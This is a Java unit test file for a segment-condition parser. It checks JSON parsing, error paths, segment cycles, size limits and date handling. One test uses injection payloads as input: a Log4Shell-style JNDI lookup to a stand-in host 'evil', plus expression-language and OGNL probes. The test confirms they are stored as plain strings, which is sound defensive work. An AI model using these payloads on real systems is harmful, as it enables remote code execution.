package dev.kairos.segment.condition;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ConditionParserTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String ARCHITECTURE_EXAMPLE =
      """
      {"and": [
        {"performed": "Product Viewed", "count": {"op": "gte", "value": 3}, "within_days": 30},
        {"performed": "Order Completed", "count": {"op": "eq", "value": 0}, "within_days": 30},
        {"performed": "Order Completed", "where": [{"property": "products[].category", "op": "eq", "value": "Shoes"}]},
        {"field": "cart_value", "op": "gt", "value": 50},
        {"trait": "birthday", "op": "anniversary_within_days", "value": 3},
        {"or": [{"trait": "city", "op": "eq", "value": "York"}, {"identifier": "phone"}]},
        {"not": {"segment": "vip"}}
      ]}""";

  private final SegmentDefinitions vipExists =
      key ->
          key.equals("vip") ? Optional.of(new Condition.HasIdentifier("email")) : Optional.empty();

  @Test
  void the_architecture_example_parses_and_writes_back_to_an_equal_condition() {
    Condition condition = valid(ARCHITECTURE_EXAMPLE, vipExists);
    assertThat(condition).isInstanceOf(Condition.And.class);
    assertThat(((Condition.And) condition).all()).hasSize(7);
    JsonNode written = ConditionJson.toJson(condition);
    assertThat(valid(written.toString(), vipExists)).isEqualTo(condition);
  }

  @Test
  void every_problem_is_listed_with_its_json_path() {
    List<Problem> problems =
        invalid(
            """
            {"and": [
              {"field": "shoe_size", "op": "eq", "value": 3},
              {"trait": "age", "type": "integer", "op": "eq", "value": 3},
              {"performed": "Product Viewed", "within_days": -1},
              {"trait": "city", "op": "gt", "value": "York"},
              {"performed": "Product Viewed", "within_days": 1000000},
              {"segment": "nope"},
              {"performed": "X", "count": {"op": "gte", "value": -2}},
              {"performed": "X", "where": [{"property": "products[].", "op": "eq", "value": "Shoes"}]},
              {"field": "last_order_at", "op": "within_last_days"},
              {"identifier": "e mail"},
              {"performed": "X", "between": ["2026-02-01", "2026-01-01"]}
            ]}""",
            vipExists);
    assertThat(problems)
        .extracting(Problem::path)
        .containsExactly(
            "$.and[0].field",
            "$.and[1].type",
            "$.and[2].within_days",
            "$.and[3].op",
            "$.and[4].within_days",
            "$.and[6].count.value",
            "$.and[7].where[0].property",
            "$.and[8].value",
            "$.and[9].identifier",
            "$.and[10].between",
            "$.and[5].segment");
    assertThat(problems.get(0).message()).contains("unknown field shoe_size");
    assertThat(problems.get(3).message()).contains("gt does not apply to string values");
    assertThat(problems.get(10).message()).contains("no segment has the key nope");
  }

  @Test
  void a_node_names_exactly_one_known_kind_and_only_its_own_keys() {
    assertThat(invalid("{}", vipExists)).extracting(Problem::path).containsExactly("$");
    assertThat(invalid("{\"trait\": \"a\", \"field\": \"revenue\"}", vipExists).get(0).message())
        .contains("more than one condition kind");
    assertThat(invalid("{\"or\": []}", vipExists))
        .extracting(Problem::path)
        .containsExactly("$.or");
    assertThat(invalid("{\"identifier\": \"email\", \"eval\": \"x\"}", vipExists))
        .extracting(Problem::path)
        .containsExactly("$.eval");
    assertThat(invalid("[1]", vipExists)).extracting(Problem::path).containsExactly("$");
  }

  @Test
  void a_segment_may_not_contain_itself_directly_or_through_others() {
    Map<String, Condition> saved =
        Map.of(
            "a", new Condition.InSegment("b"),
            "b", new Condition.Not(new Condition.InSegment("c")),
            "c", new Condition.HasIdentifier("email"));
    SegmentDefinitions definitions = key -> Optional.ofNullable(saved.get(key));
    ConditionParser parser = new ConditionParser(definitions);
    assertThat(parser.parse(tree("{\"segment\": \"c\"}"), "c"))
        .isEqualTo(
            new ParseResult.Invalid(
                List.of(new Problem("$.segment", "a segment cannot contain itself"))));
    ParseResult cycle =
        parser.parse(tree("{\"and\": [{\"identifier\": \"phone\"}, {\"segment\": \"a\"}]}"), "c");
    assertThat(((ParseResult.Invalid) cycle).problems())
        .containsExactly(
            new Problem("$.and[1].segment", "segments refer to each other in a cycle: a → b → c"));
    assertThat(parser.parse(tree("{\"segment\": \"a\"}"), "new"))
        .isInstanceOf(ParseResult.Valid.class);
  }

  @Test
  void depth_and_size_have_documented_limits() {
    String deep = "{\"identifier\": \"email\"}";
    for (int i = 0; i < Limits.DEFAULT.maxDepth(); i++) {
      deep = "{\"not\": " + deep + "}";
    }
    assertThat(invalid(deep, vipExists).get(0).message()).contains("nests deeper than 10 levels");
    StringBuilder wide = new StringBuilder("{\"or\": [");
    for (int i = 0; i < Limits.DEFAULT.maxNodes(); i++) {
      wide.append(i == 0 ? "" : ",").append("{\"identifier\": \"email\"}");
    }
    wide.append("]}");
    assertThat(invalid(wide.toString(), vipExists))
        .containsExactly(new Problem("$", "a condition may hold at most 200 conditions"));
  }

  @Test
  void values_that_look_like_expressions_are_plain_strings() {
    for (String hostile :
        List.of(
            "${jndi:ldap://evil/a}",
            "#{7*7}",
            "%{(#_memberAccess)}",
            "@java.lang.Runtime@getRuntime()")) {
      Condition condition =
          valid(
              JSON.createObjectNode()
                  .put("trait", "city")
                  .put("op", "eq")
                  .put("value", hostile)
                  .toString(),
              vipExists);
      assertThat(condition)
          .isEqualTo(
              new Condition.Trait(
                  "city",
                  new Comparison(Operator.EQ, ValueType.STRING, List.of(new Value.Text(hostile)))));
    }
  }

  @Test
  void a_trait_type_is_read_from_the_operator_and_value_when_not_given() {
    assertThat(type("{\"trait\": \"age\", \"op\": \"gt\", \"value\": 18}"))
        .isEqualTo(ValueType.NUMBER);
    assertThat(type("{\"trait\": \"vip\", \"op\": \"eq\", \"value\": true}"))
        .isEqualTo(ValueType.BOOLEAN);
    assertThat(type("{\"trait\": \"signup\", \"op\": \"within_last_days\", \"value\": 7}"))
        .isEqualTo(ValueType.DATE);
    assertThat(
            type(
                "{\"trait\": \"signup\", \"op\": \"between\", \"value\": [\"2026-01-01\", \"2026-02-01\"]}"))
        .isEqualTo(ValueType.DATE);
    assertThat(type("{\"trait\": \"city\", \"op\": \"in\", \"value\": [\"York\"]}"))
        .isEqualTo(ValueType.STRING);
    assertThat(
            type("{\"trait\": \"code\", \"type\": \"string\", \"op\": \"eq\", \"value\": \"7\"}"))
        .isEqualTo(ValueType.STRING);
  }

  @Test
  void dates_are_iso_dates_or_date_times_with_seconds_and_an_offset() {
    assertThat(DateText.parse("2026-05-01")).isPresent();
    assertThat(DateText.parse("2026-05-01T09:30:00+02:00")).isPresent();
    assertThat(DateText.parse("2026-05-01T09:30:00.123456Z")).isPresent();
    assertThat(DateText.parse("2026-02-30")).isEmpty();
    assertThat(DateText.parse("2026-05-01T09:30Z")).isEmpty();
    assertThat(DateText.parse("2026-05-01T09:30:00")).isEmpty();
    assertThat(DateText.parse("01/05/2026")).isEmpty();
    assertThat(
            invalid(
                "{\"field\": \"last_order_at\", \"op\": \"before\", \"value\": \"yesterday\"}",
                vipExists))
        .extracting(Problem::path)
        .containsExactly("$.value");
  }

  private ValueType type(String json) {
    return ((Condition.Trait) valid(json, vipExists)).comparison().type();
  }

  static JsonNode tree(String json) {
    try {
      return JSON.readTree(json);
    } catch (Exception e) {
      throw new IllegalArgumentException(e);
    }
  }

  static Condition valid(String json, SegmentDefinitions definitions) {
    ParseResult result = new ConditionParser(definitions).parse(tree(json));
    assertThat(result).isInstanceOf(ParseResult.Valid.class);
    return ((ParseResult.Valid) result).condition();
  }

  private static List<Problem> invalid(String json, SegmentDefinitions definitions) {
    ParseResult result = new ConditionParser(definitions).parse(tree(json));
    assertThat(result).isInstanceOf(ParseResult.Invalid.class);
    return ((ParseResult.Invalid) result).problems();
  }
}
